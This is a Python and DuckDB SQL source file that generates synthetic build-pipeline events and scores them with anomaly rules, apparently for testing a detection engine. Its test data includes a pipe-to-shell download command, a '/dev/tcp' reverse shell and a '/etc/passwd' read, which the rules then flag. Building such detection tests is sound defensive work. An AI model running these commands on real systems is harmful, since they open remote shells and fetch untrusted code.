"""The driver's `events` table as the engine's inputs: raw events, decisions, truth, reviews, labels, models, health, metrics.

Every view is a deterministic function of the table, so its work grows with it. VIEWS_SQL says the same in DuckDB's SQL, on
its own terms: windows are self-joins there, the cleaning is plain CASE.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from millrace.functions.clean import clean_events
from millrace.operators.features import rolling_features
from millrace.operators.rules import score_events
from millrace.settings import SPARSE
from millrace.sources.tables import sized_files, write_events
from millrace.workspace import ROWS_A_TASK, derived, small_methods, spread, tasks_for

MESSAGES = ["internal compiler error: in expand", "Killed", "write failed: No space left on device", "checksum mismatch for entry", "expected ';' before", "undefined reference to main", "AssertionError: 1 != 2", "test timed out"]


def _pick(value: Column, options: list[str]) -> Column:
    return F.get(F.array(*map(F.lit, options)), value.cast("int"))


def uuid_of(number: Column) -> Column:
    h = F.md5(number.cast("string"))
    return F.concat_ws("-", F.substring(h, 1, 8), F.substring(h, 9, 4), F.substring(h, 13, 4), F.substring(h, 17, 4), F.substring(h, 21, 12))


def source(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The table with k, a timestamp with zone, and epoch milliseconds."""
    small_methods(spark)
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    return events.select(
        F.col("event_id").alias("number"), F.col("ts").cast("timestamp").alias("at"), "user_id", F.col("event_type").alias("kind"), "value",
        F.get_json_object("props", "$.k").cast("int").alias("k"),
    ).withColumn("at_ms", F.unix_millis("at"))


def raw_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Raw build events as a topic keeps them: made from the table once, then read by every query."""
    small_methods(spark)
    return derived(spark, f"{sf_dir}/events.parquet", "topic", lambda path: producer(spark, sf_dir).write.parquet(path))


def producer(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Raw build events: texts as a producer might write them, some of them to be refused."""
    e = spread(source(spark, sf_dir))
    c, k, kind, when, lit = F.col, F.col("k"), F.col("kind"), F.when, F.lit
    none = lit(None).cast("string")
    click, view, purchase, error = (kind == x for x in ("click", "view", "purchase", "error"))
    type_name = _pick(F.array_position(F.array(*map(lit, ["click", "view", "purchase", "signup", "error"])), kind) - 1, ["COMPILE_STEP", "DEPENDENCY_FETCH", "ARTIFACT_PUBLISH", "BUILD_SUCCESS", "BUILD_FAILURE"])
    iso = F.date_format("at", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS")
    cents = F.round(c("value") * 100).cast("long")
    number = c("number").cast("string")
    return e.select(
        (c("number") * 10).alias("offset"), (c("user_id") % 4).cast("int").alias("partition"), "k", "at_ms", "number", "user_id",
        (c("at_ms") + (k * 37 + 5) % 900).alias("appended_ms"), (c("at_ms") + k * 37 + 5).alias("ingested_ms"),
        when(error & (c("user_id") % 7 == 0), "retry_storm").otherwise("normal").alias("scenario"),
        F.least(c("value") / 500, lit(1.0)).alias("ml_score"), when(k % 2 == 0, "v1").otherwise("v2").alias("ml_model"),
        when(k == 96, F.concat(lit("bad-"), number)).otherwise(F.concat(lit(" "), uuid_of(c("number")))).alias("event_id"),
        when(k == 95, "yesterday").when(k % 4 == 0, F.concat(iso, lit("Z"))).when(k % 4 == 1, F.concat(iso, lit("+00:00"))).when(k % 4 == 2, iso).otherwise(F.translate(iso, "T", " ")).alias("timestamp"),
        F.concat(when(c("user_id") % 2 == 0, "10.0.").otherwise("203.0."), F.floor(c("user_id") / 250).cast("string"), lit("."), (c("user_id") % 250).cast("string")).alias("runner_ip"),
        when(k == 99, "").when(k == 93, none).otherwise(F.concat(lit("Proj-"), (k % 24).cast("string"))).alias("project"),
        when(k == 94, "MYSTERY").when(k % 6 == 1, F.concat(lit(" "), F.lower(type_name), lit(" "))).otherwise(type_name).alias("event_type"),
        when(k == 92, "").otherwise(F.concat(lit("WS-"), c("user_id").cast("string"))).alias("hostname"),
        when(k == 97, "loud").when(error, "error").otherwise(" Info").alias("severity"),
        when(error, "compile_error").alias("reason"),
        when(click & (k == 3), "curl http://x/i | sh").when(click & (k == 5), "bash -i >& /dev/tcp/1.2.3.4/9").when(click, "g++ -c main.cc").alias("command"),
        lit("agent").alias("log_source"), none.alias("outcome"), F.concat(lit("b-"), F.floor(c("number") / 10).cast("string")).alias("build_id"),
        none.alias("dest_ip"), lit("TCP").alias("protocol"), none.alias("triggered_by"), when(view, "get").when(purchase, "PUT").alias("http_method"),
        when(view & (k == 42), "/unofficial/x.jar").when(view, F.concat(lit("/maven2/lib-"), (k % 20).cast("string"), lit(".jar"))).alias("url_path"),
        none.alias("user_agent"), none.alias("process_name"), lit("make").alias("parent_process"), when(click, "compile").alias("step"),
        when(click & (k == 4), "/etc/passwd").alias("file_path"), _pick(k % 5, ["hit", "Miss", "corrupt", "hit", "hit"]).alias("cache_status"),
        when(error, _pick(k % 8, MESSAGES)).alias("error_message"),
        when(k == 98, 300).when(error & (k % 10 == 7), 137).when(error, 1 + k % 3).otherwise(0).cast("int").alias("exit_code"),
        when(k == 91, 70_000).when(view, 443).cast("int").alias("dest_port"),
        when(view & (k < 10), 404).when(view & (k < 15), 503).when(view, 200).when(purchase, 201).cast("int").alias("http_status"),
        when(view, F.floor(c("value") * 10)).cast("int").alias("response_time_ms"), (c("number") % 30_000).cast("int").alias("process_id"),
        when(k % 11 == 0, lit(None)).when(k % 3 == 0, 0).otherwise(1000 + k).cast("int").alias("process_uid"),
        when(click, cents * 30).cast("int").alias("duration_ms"), when(click, k * 10).cast("int").alias("peak_memory_mb"),
        when(purchase, cents * 10_000).cast("long").alias("bytes_sent"),
    )


def redelivered(raw: DataFrame) -> DataFrame:
    """Raw events, a fiftieth of them sent twice: the copy arrives a few messages later, in the other case of hex digits kept."""
    copy = raw.filter("k % 50 = 0").withColumns({"offset": F.col("offset") + 35, "appended_ms": F.col("appended_ms") + 900, "ingested_ms": F.col("ingested_ms") + 900})
    return raw.unionByName(copy)


def clean(spark: SparkSession, sf_dir: str) -> DataFrame:
    return clean_events(raw_events(spark, sf_dir), SPARSE)


def tasks(spark: SparkSession, sf_dir: str) -> int:
    """Tasks for a shuffle of whole events, by the topic's rows (a count from its footers)."""
    return tasks_for(spark, raw_events(spark, sf_dir).count())


def features(spark: SparkSession, sf_dir: str) -> DataFrame:
    return rolling_features(clean(spark, sf_dir).repartition(tasks(spark, sf_dir), "runner_ip"), SPARSE)


def decided(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The whole job over the topic: cleaning, features, rules and model policy."""
    return score_events(features(spark, sf_dir), SPARSE)


def scored(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The decisions as the job stores them, in the event table's layout; rollups, checks and investigations read this."""

    def write(path: str) -> None:
        files = sized_files(source(spark, sf_dir).select(F.col("at_ms").alias("ts_ms")), ROWS_A_TASK)
        # twice the tasks, so that few of them get more than one file
        write_events(decided(spark, sf_dir), path, files, mode="errorifexists", tasks=2 * tasks(spark, sf_dir))

    return derived(spark, f"{sf_dir}/events.parquet", "decisions", write)


def stored(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Decisions as stored at least once: some rows twice, the copy ingested later."""
    s = scored(spark, sf_dir)
    return s.unionByName(s.filter("k % 50 = 0").withColumn("ingested_ms", F.col("ingested_ms") + 5000))


def truth(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What every message really was; ids as stored."""
    return raw_events(spark, sf_dir).select(F.trim("event_id").alias("event_id"), "scenario", "partition", "offset")


def starts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(partition, window_start): the window opens a tenth of the way into each partition's offsets."""
    return raw_events(spark, sf_dir).groupBy("partition").agg((F.floor(F.max("offset") / 10)).alias("window_start"))


def rejects(spark: SparkSession, sf_dir: str) -> DataFrame:
    from millrace.functions.clean import validate

    return validate(raw_events(spark, sf_dir), SPARSE).filter("reject_reason is not null")


def reviews(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A seventh of the decisions with a reviewer's verdict an hour later."""
    s, k = scored(spark, sf_dir).filter("number % 7 = 0"), F.col("k")
    return s.select(
        "event_id", (F.col("ts_ms") + 3_600_000).alias("reviewed_ms"), "runner_ip", "event_type", F.col("recommended_action").alias("pipeline_action"), "ml_model",
        _pick(k % 4, ["near_miss", "unusual", "random", "model_alert"]).alias("why_selected"), _pick(k % 3, ["normal", "degraded", "incident"]).alias("verdict"),
        ((k % 10) / 10.0 + 0.05).alias("confidence"), F.concat(lit_k(), k.cast("string")).alias("reason"),
    )


def lit_k() -> Column:
    return F.lit("k is ")


def labels(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Labels of the truth for every decision, and a reviewer's for a ninth of them."""
    s = scored(spark, sf_dir)
    told = s.select("event_id", (F.col("scenario") != "normal").cast("int").alias("label"), F.lit("simulator").alias("source"), (1.0 + F.col("k") % 5).alias("weight"), F.col("ts_ms").alias("labeled_ms"))
    seen = s.filter("k % 9 = 0").select("event_id", (F.col("k") % 2).cast("int").alias("label"), F.lit("reviewer").alias("source"), F.lit(0.5).alias("weight"), (F.col("ts_ms") + 86_400_000).alias("labeled_ms"))
    return told.unionByName(seen)


def activations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A model activated at every 97th event."""
    e, n = source(spark, sf_dir).filter("number % 97 = 0"), F.col("number")
    version = F.concat(F.lit("v"), (1 + F.floor(n / 97) % 3).cast("string"))
    return e.select(version.alias("version"), F.col("at_ms").alias("activated_ms"), F.when(n % 4 == 0, "rollback: false alarms").otherwise("promoted").alias("reason"))


def models(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = source(spark, sf_dir).groupBy(F.concat(F.lit("v"), (1 + F.col("number") % 3).cast("string")).alias("version"))
    return e.agg(F.count(F.lit(1)).alias("trained_rows"), F.max("at_ms").alias("created_ms"))


def health_results(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Check results of six-hourly runs, one for each stage."""
    run = F.floor(F.col("at_ms") / 21_600_000)
    e = source(spark, sf_dir).groupBy(run.alias("run"), _pick(F.col("k") % 3, ["extract", "transform", "load"]).alias("stage"))
    e = e.agg(F.max("at_ms").alias("checked_ms"), F.count_if(F.col("kind") == "error").alias("value"), F.count(F.lit(1)).alias("n"))
    return e.select(
        F.concat(F.lit("run-"), F.col("run").cast("string")).alias("run_id"), "stage", F.concat("stage", F.lit("_errors")).alias("check_name"),
        F.when(F.col("stage") == "load", "warn").otherwise("fail").alias("severity"), "checked_ms", "value", (F.col("value") * 2 <= F.col("n")).alias("passed"),
    )


def snapshots(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Offsets of the topics raw, scored and rejected as sampled through the day."""
    e, n, k = source(spark, sf_dir), F.col("number"), F.col("k")
    return e.select(
        _pick(F.when(k < 48, 0).when(k < 97, 1).otherwise(2), ["raw", "scored", "rejected"]).alias("topic"), (F.col("user_id") % 4).cast("int").alias("partition"),
        n.alias("end_offset"), F.when(k != 13, n - k).alias("committed_offset"), F.col("at_ms").alias("sampled_ms"),
    )


def samples(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A counter for each of five jobs that resets now and then."""
    e = source(spark, sf_dir)
    return e.select((F.col("user_id") % 5).cast("int").alias("job"), "number", F.col("at_ms").alias("ts_ms"), (F.col("number") % 997).cast("double").alias("value"))


def replies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A reviewer's reply for each event: JSON in prose, with verdicts that hold and some that do not."""
    k, n = F.col("k"), F.col("number").cast("string")
    verdict = _pick(k % 4, ["normal", "Degraded", "INCIDENT", "unsure"])
    text = F.concat(
        F.when(k % 5 == 0, "```json\n").otherwise("Here: "), F.lit('{"verdicts":[{"id":"0","verdict":"'), verdict, F.lit('","confidence":'), (k / 50.0).cast("string"),
        F.lit(',"reason":"event '), n, F.lit('"},{"id":"9","verdict":"normal","confidence":0.5},{"id":"1","verdict":"normal","confidence":'),
        F.when(k % 7 == 0, '"high"').otherwise("0.25"), F.lit("}]}"), F.when(k % 5 == 0, "\n```").otherwise(" as asked."),
    )
    return source(spark, sf_dir).select(F.col("number").alias("page"), F.lit(2).alias("page_size"), text.alias("reply"))


# The same views for DuckDB.

_TYPE = "CASE kind WHEN 'click' THEN 'COMPILE_STEP' WHEN 'view' THEN 'DEPENDENCY_FETCH' WHEN 'purchase' THEN 'ARTIFACT_PUBLISH' WHEN 'signup' THEN 'BUILD_SUCCESS' ELSE 'BUILD_FAILURE' END"
_UUID = "substr(md5(number::VARCHAR),1,8)||'-'||substr(md5(number::VARCHAR),9,4)||'-'||substr(md5(number::VARCHAR),13,4)||'-'||substr(md5(number::VARCHAR),17,4)||'-'||substr(md5(number::VARCHAR),21,12)"
_MESSAGES = "[" + ",".join("'" + m.replace("'", "''") + "'" for m in MESSAGES) + "]"
DAY = 86_400_000

VIEWS_SQL = f"""
src AS (SELECT event_id AS number, ts AS moment, user_id, event_type AS kind, value, CAST(regexp_extract(props, '([0-9]+)', 1) AS INTEGER) AS k, epoch_us(ts) // 1000 AS at_ms FROM events),
raw AS (SELECT number * 10 AS "offset", CAST(user_id % 4 AS INTEGER) AS partition, k, at_ms, number, user_id, kind,
  at_ms + (k * 37 + 5) % 900 AS appended_ms, at_ms + k * 37 + 5 AS ingested_ms,
  CASE WHEN kind = 'error' AND user_id % 7 = 0 THEN 'retry_storm' ELSE 'normal' END AS scenario,
  least(value / 500, 1.0::DOUBLE) AS ml_score, CASE WHEN k % 2 = 0 THEN 'v1' ELSE 'v2' END AS ml_model,
  CASE WHEN k = 96 THEN 'bad-' || number ELSE ' ' || {_UUID} END AS event_id,
  CASE WHEN k = 95 THEN 'yesterday' WHEN k % 4 = 0 THEN strftime(moment, '%Y-%m-%dT%H:%M:%S.%f') || 'Z' WHEN k % 4 = 1 THEN strftime(moment, '%Y-%m-%dT%H:%M:%S.%f') || '+00:00'
    WHEN k % 4 = 2 THEN strftime(moment, '%Y-%m-%dT%H:%M:%S.%f') ELSE strftime(moment, '%Y-%m-%d %H:%M:%S.%f') END AS "timestamp",
  (CASE WHEN user_id % 2 = 0 THEN '10.0.' ELSE '203.0.' END) || (user_id // 250) || '.' || (user_id % 250) AS runner_ip,
  CASE WHEN k = 99 THEN '' WHEN k = 93 THEN NULL ELSE 'Proj-' || (k % 24) END AS project, {_TYPE} AS type_name,
  CASE WHEN k = 94 THEN 'MYSTERY' WHEN k % 6 = 1 THEN ' ' || lower({_TYPE}) || ' ' ELSE {_TYPE} END AS event_type,
  CASE WHEN k = 92 THEN '' ELSE 'WS-' || user_id END AS hostname,
  CASE WHEN k = 97 THEN 'loud' WHEN kind = 'error' THEN 'error' ELSE ' Info' END AS severity,
  CASE WHEN kind = 'error' THEN 'compile_error' END AS reason,
  CASE WHEN kind = 'click' THEN CASE k WHEN 3 THEN 'curl http://x/i | sh' WHEN 5 THEN 'bash -i >& /dev/tcp/1.2.3.4/9' ELSE 'g++ -c main.cc' END END AS command,
  'b-' || (number // 10) AS build_id, CASE kind WHEN 'view' THEN 'get' WHEN 'purchase' THEN 'PUT' END AS http_method,
  CASE WHEN kind = 'view' THEN CASE WHEN k = 42 THEN '/unofficial/x.jar' ELSE '/maven2/lib-' || (k % 20) || '.jar' END END AS url_path,
  CASE WHEN kind = 'click' THEN 'compile' END AS step, CASE WHEN kind = 'click' AND k = 4 THEN '/etc/passwd' END AS file_path,
  ['hit','Miss','corrupt','hit','hit'][k % 5 + 1] AS cache_status, CASE WHEN kind = 'error' THEN {_MESSAGES}[k % 8 + 1] END AS error_message,
  CAST(CASE WHEN k = 98 THEN 300 WHEN kind = 'error' AND k % 10 = 7 THEN 137 WHEN kind = 'error' THEN 1 + k % 3 ELSE 0 END AS INTEGER) AS exit_code,
  CAST(CASE WHEN k = 91 THEN 70000 WHEN kind = 'view' THEN 443 END AS INTEGER) AS dest_port,
  CAST(CASE WHEN kind = 'view' THEN CASE WHEN k < 10 THEN 404 WHEN k < 15 THEN 503 ELSE 200 END WHEN kind = 'purchase' THEN 201 END AS INTEGER) AS http_status,
  CAST(CASE WHEN kind = 'view' THEN floor(value * 10) END AS INTEGER) AS response_time_ms, CAST(number % 30000 AS INTEGER) AS process_id,
  CAST(CASE WHEN k % 11 = 0 THEN NULL WHEN k % 3 = 0 THEN 0 ELSE 1000 + k END AS INTEGER) AS process_uid,
  CAST(CASE WHEN kind = 'click' THEN round(value * 100) * 30 END AS INTEGER) AS duration_ms, CAST(CASE WHEN kind = 'click' THEN k * 10 END AS INTEGER) AS peak_memory_mb,
  CAST(CASE WHEN kind = 'purchase' THEN round(value * 100) * 10000 END AS BIGINT) AS bytes_sent, moment FROM src),
reasoned AS (SELECT *, CASE WHEN k = 96 THEN 'invalid_event_id' WHEN k = 95 THEN 'invalid_timestamp' WHEN k = 94 THEN 'unknown_event_type'
  WHEN k = 98 THEN 'exit_code_out_of_range' WHEN k = 91 THEN 'port_out_of_range' WHEN duration_ms > 86400000 THEN 'duration_out_of_range' END AS reject_reason FROM raw),
rejects AS (SELECT * FROM reasoned WHERE reject_reason IS NOT NULL),
twice AS (SELECT * FROM raw UNION ALL SELECT * REPLACE ("offset" + 35 AS "offset", appended_ms + 900 AS appended_ms, ingested_ms + 900 AS ingested_ms) FROM raw WHERE k % 50 = 0),
clean AS (SELECT * EXCLUDE (reject_reason) REPLACE (trim(event_id) AS event_id, type_name AS event_type, lower(coalesce(project, '')) AS project, lower(hostname) AS hostname,
    CASE WHEN k = 97 THEN 'UNKNOWN' WHEN kind = 'error' THEN 'ERROR' ELSE 'INFO' END AS severity, coalesce(reason, '') AS reason, coalesce(command, '') AS command,
    upper(coalesce(http_method, '')) AS http_method, coalesce(url_path, '') AS url_path, coalesce(step, '') AS step, coalesce(file_path, '') AS file_path, lower(cache_status) AS cache_status,
    coalesce(error_message, '') AS error_message, coalesce(dest_port, 0) AS dest_port, coalesce(http_status, 0) AS http_status, coalesce(response_time_ms, 0) AS response_time_ms,
    coalesce(process_uid, -1) AS process_uid, coalesce(duration_ms, 0) AS duration_ms, coalesce(peak_memory_mb, 0) AS peak_memory_mb, coalesce(bytes_sent, 0) AS bytes_sent),
  at_ms AS ts_ms, severity AS raw_severity,
  CASE WHEN kind <> 'error' THEN '' ELSE CASE k % 8 WHEN 0 THEN 'ice' WHEN 1 THEN 'oom' WHEN 2 THEN 'disk_full' WHEN 3 THEN 'checksum_mismatch' ELSE '' END END AS failure_signature,
  CAST(kind = 'error' AND k % 8 < 4 AS INTEGER) AS is_failure_signature, CAST(kind = 'view' AND k = 42 AS INTEGER) AS is_untrusted_fetch,
  CAST(kind = 'click' AND k IN (3, 4, 5) AS INTEGER) AS is_rogue_command, CAST(k % 3 = 0 AND k % 11 <> 0 AS INTEGER) AS is_privileged,
  CAST(kind = 'click' AND coalesce(duration_ms, 0) >= 300000 AS INTEGER) AS is_slow_step, CAST(k % 5 IN (1, 2) AS INTEGER) AS is_cache_miss, CAST(user_id % 2 = 0 AS INTEGER) AS is_internal_ip,
  CAST(hour(moment) AS INTEGER) AS hour, CAST(hour(moment) >= 22 OR hour(moment) < 6 AS INTEGER) AS is_night, CASE WHEN user_id % 2 = 0 THEN '--' ELSE '' END AS region
  FROM reasoned WHERE reject_reason IS NULL),
eff AS (SELECT *, max(ts_ms) OVER (PARTITION BY runner_ip ORDER BY "offset") AS eff FROM clean),
windowed AS MATERIALIZED (SELECT a."offset" AS o,
  count(*) FILTER (b.eff >= a.eff - {SPARSE.short_ms}) AS events_1m, count(*) FILTER (b.eff >= a.eff - {SPARSE.short_ms} AND b.event_type = 'BUILD_FAILURE') AS failed_builds_1m,
  count(*) FILTER (b.eff >= a.eff - {SPARSE.short_ms} AND b.http_status = 404) AS dependency_404_1m,
  count(*) FILTER (b.event_type = 'BUILD_FAILURE') AS failed_builds_5m, count(DISTINCT nullif(b.project, '')) AS unique_projects_5m,
  count(*) FILTER (b.failure_signature = 'oom' OR b.exit_code = 137) AS oom_kills_5m, count(DISTINCT CASE WHEN b.exit_code > 0 THEN b.exit_code END) AS distinct_exit_codes_5m,
  count(*) FILTER (b.event_type = 'COMPILE_STEP') AS compile_steps_5m, count(*) FILTER (b.event_type IN ('BUILD_SUCCESS', 'BUILD_FAILURE')) / 5.0::DOUBLE AS build_frequency,
  count(*) FILTER (b.is_rogue_command = 1) AS rogue_commands_5m, count(*) FILTER (b.is_failure_signature = 1) AS failure_signatures_5m, count(*) FILTER (b.http_status >= 400) AS http_errors_5m,
  count(DISTINCT nullif(b.url_path, '')) AS distinct_artifacts_5m, CAST(coalesce(sum(b.bytes_sent) FILTER (b.event_type = 'ARTIFACT_PUBLISH'), 0) AS BIGINT) AS published_bytes_5m,
  count(*) FILTER (b.is_slow_step = 1) AS slow_steps_5m, count(*) FILTER (b.is_cache_miss = 1) AS cache_misses_5m
  FROM eff a JOIN eff b ON a.runner_ip = b.runner_ip AND b."offset" <= a."offset" AND b.eff >= a.eff - {SPARSE.long_ms} GROUP BY a."offset"),
features AS (SELECT e.*, w.* EXCLUDE (o) FROM eff e JOIN windowed w ON e."offset" = w.o),
fired AS (SELECT *, [CASE WHEN command LIKE '%/dev/tcp/%' THEN 'reverse_shell' END, CASE WHEN is_rogue_command = 1 AND is_privileged = 1 THEN 'rogue_command_as_root' END,
  CASE WHEN failure_signature = 'checksum_mismatch' THEN 'cache_poisoned' END, CASE WHEN failure_signature = 'ice' THEN 'compiler_crash' END,
  CASE WHEN failure_signature = 'disk_full' THEN 'disk_full' END, CASE WHEN failed_builds_1m >= {SPARSE.storm} THEN 'failure_storm' END,
  CASE WHEN unique_projects_5m >= {SPARSE.storm_projects} AND failed_builds_5m >= {SPARSE.storm_after} THEN 'broken_toolchain' END, CASE WHEN oom_kills_5m >= {SPARSE.oom_kills} THEN 'oom_kill_storm' END,
  CASE WHEN slow_steps_5m >= {SPARSE.slow_steps} THEN 'repeated_slow_steps' END, CASE WHEN failure_signatures_5m >= {SPARSE.signatures} THEN 'repeated_failure_signatures' END,
  CASE WHEN is_rogue_command = 1 THEN 'rogue_command' END, CASE WHEN dependency_404_1m >= {SPARSE.not_found} THEN 'dependency_not_found_storm' END,
  CASE WHEN published_bytes_5m >= {SPARSE.published_bytes} THEN 'artifact_bloat' END, CASE WHEN failure_signature = 'oom' THEN 'oom_kill' END, CASE WHEN is_untrusted_fetch = 1 THEN 'untrusted_fetch' END,
  CASE WHEN is_slow_step = 1 THEN 'slow_step' END, CASE WHEN event_type = 'BUILD_SUCCESS' AND failed_builds_5m >= {SPARSE.storm_after} THEN 'pass_after_failure_storm' END] AS f FROM features),
ruled AS (SELECT * EXCLUDE (f), array_to_string(list_filter(f, lambda x: x IS NOT NULL), ',') AS rule_hits,
  CASE WHEN f[1] IS NOT NULL THEN 1.0 WHEN f[2] IS NOT NULL THEN 0.97 WHEN coalesce(f[3], f[4]) IS NOT NULL THEN 0.95 WHEN coalesce(f[5], f[6], f[7], f[8], f[9], f[10]) IS NOT NULL THEN 0.9
    WHEN coalesce(f[11], f[12], f[13]) IS NOT NULL THEN 0.85 WHEN coalesce(f[14], f[15], f[16], f[17]) IS NOT NULL THEN 0.7 ELSE 0.0 END::DOUBLE AS rule_score FROM fired),
finals AS (SELECT *, greatest(rule_score, CASE WHEN rule_hits <> '' THEN ml_score ELSE least(ml_score, 0.85::DOUBLE - 0.0001::DOUBLE) END) AS final_anomaly_score,
  CASE WHEN rule_score >= 0.85 THEN 'quarantine' WHEN rule_score >= 0.65 THEN 'alert' ELSE 'ok' END AS rule_action FROM ruled),
scored AS MATERIALIZED (SELECT *, CAST(final_anomaly_score >= 0.65 AS INTEGER) AS is_suspicious,
  CASE WHEN final_anomaly_score >= 0.85 THEN 'quarantine' WHEN final_anomaly_score >= 0.65 THEN 'alert' ELSE 'ok' END AS recommended_action,
  CASE WHEN rule_action <> CASE WHEN final_anomaly_score >= 0.85 THEN 'quarantine' WHEN final_anomaly_score >= 0.65 THEN 'alert' ELSE 'ok' END THEN 'ml: score' ELSE '' END AS ml_reason FROM finals),
stored AS (SELECT * FROM scored UNION ALL SELECT * REPLACE (ingested_ms + 5000 AS ingested_ms) FROM scored WHERE k % 50 = 0),
truth AS (SELECT trim(event_id) AS event_id, scenario, partition, "offset" FROM raw),
starts AS (SELECT partition, max("offset") // 10 AS window_start FROM raw GROUP BY partition),
reviews AS (SELECT event_id, ts_ms + 3600000 AS reviewed_ms, runner_ip, event_type, recommended_action AS pipeline_action, ml_model, ['near_miss','unusual','random','model_alert'][k % 4 + 1] AS why_selected,
  ['normal','degraded','incident'][k % 3 + 1] AS verdict, (k % 10) / 10.0::DOUBLE + 0.05::DOUBLE AS confidence, 'k is ' || k AS reason FROM scored WHERE number % 7 = 0),
labelled AS (SELECT event_id, CAST(scenario <> 'normal' AS INTEGER) AS label, 'simulator' AS source, 1.0::DOUBLE + k % 5 AS weight, ts_ms AS labeled_ms FROM scored
  UNION ALL SELECT event_id, CAST(k % 2 AS INTEGER), 'reviewer', 0.5, ts_ms + {DAY} FROM scored WHERE k % 9 = 0),
best_labels AS (SELECT event_id, label, CAST(weight AS DOUBLE) AS weight, source = 'reviewer' AS reviewed FROM labelled QUALIFY row_number() OVER (PARTITION BY event_id ORDER BY source = 'reviewer' DESC, labeled_ms DESC, label DESC) = 1),
activations AS (SELECT 'v' || (1 + (number // 97) % 3) AS version, at_ms AS activated_ms, CASE WHEN number % 4 = 0 THEN 'rollback: false alarms' ELSE 'promoted' END AS reason FROM src WHERE number % 97 = 0),
models AS (SELECT 'v' || (1 + number % 3) AS version, count(*) AS trained_rows, max(at_ms) AS created_ms FROM src GROUP BY 1),
health AS (SELECT 'run-' || (at_ms // 21600000) AS run_id, ['extract','transform','load'][k % 3 + 1] AS stage, max(at_ms) AS checked_ms, count(*) FILTER (kind = 'error') AS value, count(*) AS n FROM src GROUP BY 1, 2),
results AS (SELECT run_id, stage, stage || '_errors' AS check_name, CASE WHEN stage = 'load' THEN 'warn' ELSE 'fail' END AS severity, checked_ms, value, value * 2 <= n AS passed FROM health),
snapshots AS (SELECT CASE WHEN k < 48 THEN 'raw' WHEN k < 97 THEN 'scored' ELSE 'rejected' END AS topic, user_id % 4 AS partition, number AS end_offset, CASE WHEN k <> 13 THEN number - k END AS committed_offset, at_ms AS sampled_ms FROM src),
samples AS (SELECT CAST(user_id % 5 AS INTEGER) AS job, number, at_ms AS ts_ms, CAST(number % 997 AS DOUBLE) AS value FROM src),
decisions AS (SELECT event_id, arg_max(recommended_action, ingested_ms) AS action, arg_max(rule_hits, ingested_ms) AS rule_hits, arg_max(rule_score, ingested_ms) AS rule_score, arg_max(ml_score, ingested_ms) AS ml_score,
  arg_max(ml_model, ingested_ms) AS ml_model, min(runner_ip) AS runner_ip, min(ts_ms) AS ts_ms, count(*) AS copies FROM stored GROUP BY event_id),
refused AS (SELECT partition, "offset", min(reject_reason) AS reason FROM rejects GROUP BY 1, 2),
told AS MATERIALIZED (SELECT t.*, d.* EXCLUDE (event_id), r.reason, t."offset" >= coalesce(s.window_start, 0) AS in_window FROM truth t LEFT JOIN decisions d USING (event_id)
  LEFT JOIN refused r ON r.partition = t.partition AND r."offset" = t."offset" LEFT JOIN starts s ON s.partition = t.partition),
incident_rows AS (SELECT *, coalesce(sum(CASE WHEN pause > {SPARSE.incident_gap_ms} THEN 1 ELSE 0 END) OVER (PARTITION BY scenario, runner_ip ORDER BY ts_ms, event_id), 0) AS incident
  FROM (SELECT *, ts_ms - lag(ts_ms) OVER (PARTITION BY scenario, runner_ip ORDER BY ts_ms, event_id) AS pause FROM told WHERE scenario <> 'normal' AND action IS NOT NULL)),
numbered AS (SELECT *, row_number() OVER (PARTITION BY scenario, runner_ip, incident ORDER BY ts_ms, event_id) - 1 AS n FROM incident_rows),
opened AS (SELECT min(ts_ms) AS since FROM scored),
runs AS (SELECT scenario, runner_ip, CAST(incident AS BIGINT) AS incident, min(ts_ms) AS start_ms, max(ts_ms) AS end_ms, count(*) AS events, count(*) FILTER (action <> 'ok') AS flagged,
  CAST(min(n) FILTER (action <> 'ok') AS INTEGER) AS first_flag_events, (min(ts_ms) FILTER (action <> 'ok') - min(ts_ms)) / 1000.0::DOUBLE AS first_flag_s,
  min(ts_ms) - (SELECT since FROM opened) < 2000 AS started_before_window FROM numbered GROUP BY 1, 2, 3),
incidents AS MATERIALIZED (SELECT a.*, EXISTS (SELECT 1 FROM runs b WHERE b.runner_ip = a.runner_ip AND b.start_ms < a.start_ms AND a.start_ms <= b.end_ms + {SPARSE.containment_ms}) AS known_source FROM runs a),
quarantined AS (SELECT * FROM told WHERE in_window AND scenario = 'normal' AND action = 'quarantine'),
aftermath AS (SELECT q.* FROM quarantined q WHERE EXISTS (SELECT 1 FROM incidents i WHERE i.runner_ip = q.runner_ip AND (i.started_before_window OR i.start_ms <= q.ts_ms) AND q.ts_ms <= i.end_ms + {SPARSE.containment_ms}))
"""


def sql(query: str) -> str:
    return f"WITH {VIEWS_SQL} {query}"
